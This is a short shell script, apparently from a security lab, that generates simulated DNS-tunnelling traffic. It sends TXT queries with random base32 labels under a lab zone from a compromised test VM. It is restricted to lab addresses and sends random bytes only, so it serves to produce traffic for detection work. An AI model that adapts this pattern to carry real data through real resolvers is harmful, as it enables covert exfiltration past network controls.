# Known-peer attack: DNS tunnelling through the VM's own resolver: TXT queries for names with two
# long high-entropy base32 labels under the lab zone (t<seq>.tun.example.lab), about RATE a second,
# for SECONDS, from source ports PORT_LO..PORT_HI (the label's reserved block). Bounded in count and time.
# Usage (inside the compromised VM): dns-tunnel.sh RESOLVER_IP SECONDS RATE PORT_LO PORT_HI
set -u
dns="$1" secs="$2" rate="$3" lo="$4" hi="$5"
case "$dns" in 10.203.0.*) ;; *) echo "dns-tunnel: $dns is not a lab address" >&2; exit 2 ;; esac
end=$(( $(date +%s) + ${secs%.*} ))
gap=$(awk -v r="$rate" 'BEGIN { printf "%.3f", 1 / r }')
for i in $(seq 0 $(( ${secs%.*} * ${rate%.*} ))); do
  [ "$(date +%s)" -lt "$end" ] || break
  # 60 random bytes -> two 48-character base32 labels: the "payload" chunk of the tunnel.
  chunk=$(head -c 60 /dev/urandom | base32 -w 0 | tr -d '=' | tr 'A-Z' 'a-z')
  port=$(( lo + i % (hi - lo + 1) ))
  dig +short +time=1 +tries=1 -b "0.0.0.0#$port" "@$dns" "${chunk:0:48}.${chunk:48:48}.t$i.tun.example.lab" TXT >/dev/null 2>&1 || true
  sleep "$gap"
done
